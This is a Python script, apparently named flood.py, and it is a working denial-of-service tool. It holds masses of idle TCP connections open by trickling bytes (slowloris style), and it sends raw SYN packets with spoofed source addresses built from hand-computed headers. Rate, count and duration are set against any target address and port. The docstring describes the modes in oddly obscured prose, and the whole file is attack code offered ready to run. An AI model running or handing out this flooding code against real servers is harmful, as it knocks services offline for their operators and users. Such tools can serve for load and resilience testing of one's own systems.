"""flood.py silent|word|half COUNT RATE SECONDS ADDRESS PORT - connections that lead to nothing, RATE of them in a second.

silent: they are made, and every other one says a byte now and then; each is held until it is closed at the other end, or SECONDS are over.
word: the same, but that each says its first byte at once, as one that is about to prove itself does.
half: first packets of connections, in the name of addresses that nobody has: there is never an answer.
Prints how many were begun, and how many of them were there and closed by the other end.
"""
import errno
import random
import selectors
import socket
import struct
import sys
import time

LINGER = struct.pack("ii", 1, 0)        # what is given up here is not to wait for the other end


def total(data):
    """The Internet checksum."""
    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
    words = (words >> 16) + (words & 0xffff)
    return ~(words + (words >> 16)) & 0xffff


def first_packet(source, address, port):
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    number = random.getrandbits(32)
    head = [random.randrange(1024, 65536), port, number, 0, 5 << 12 | 2, 64000, 0, 0]
    head[6] = total(ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, 20) + struct.pack("!HHIIHHHH", *head))
    return struct.pack("!BBHHHBBH", 0x45, 0, 40, random.getrandbits(16), 0, 64, socket.IPPROTO_TCP, 0) + ends + struct.pack("!HHIIHHHH", *head)


def half(count, rate, address, port):
    began = time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        for i in range(count):
            raw.sendto(first_packet(f"10.77.0.{100 + i % 100}", address, port), (address, 0))
            if i % 10 == 9:
                time.sleep(max(0, began + i / rate - time.monotonic()))
    print(f"begun {count} closed 0")


class Silent:
    def __init__(self, address, port, says):
        self.to, self.some, self.says = (address, port), selectors.EpollSelector(), says
        self.begun = self.closed = 0

    def begin(self):
        s = socket.socket()
        if self.says:
            return self.begin_with_a_word(s)
        s.setblocking(False)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
        if s.connect_ex(self.to) in (0, errno.EINPROGRESS):
            self.some.register(s, selectors.EVENT_READ)
            self.begun += 1
        else:
            s.close()

    def begin_with_a_word(self, s):
        s.settimeout(1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, LINGER)
        try:
            s.connect(self.to)
            s.send(b"w")
        except OSError:
            s.close()
            return
        s.setblocking(False)
        self.some.register(s, selectors.EVENT_READ)
        self.begun += 1

    def listen(self, seconds):
        for key, _ in self.some.select(max(0, seconds)):
            try:
                data = key.fileobj.recv(1000)
                refused = False
            except OSError as why:
                data, refused = b"", why.errno == errno.ECONNREFUSED
            if not data:
                self.some.unregister(key.fileobj)
                key.fileobj.close()
                self.closed += not refused

    def drip(self):
        for key in list(self.some.get_map().values())[::2]:
            try:
                key.fileobj.send(b"w")
            except OSError:
                pass

    def run(self, count, rate, seconds):
        began = time.monotonic()
        dripped = began
        while time.monotonic() < began + seconds and (self.begun < count or self.some.get_map()):
            while self.begun < min(count, (time.monotonic() - began) * rate):
                self.begin()
            self.listen(0.01)
            if time.monotonic() > dripped + 2:
                dripped = time.monotonic()
                self.drip()
        print(f"begun {self.begun} closed {self.closed}")


def main():
    kind, count, rate, seconds, address, port = sys.argv[1], *map(int, sys.argv[2:5]), sys.argv[5], int(sys.argv[6])
    if kind == "half":
        half(count, rate, address, port)
    else:
        Silent(address, port, kind == "word").run(count, rate, seconds)


main()
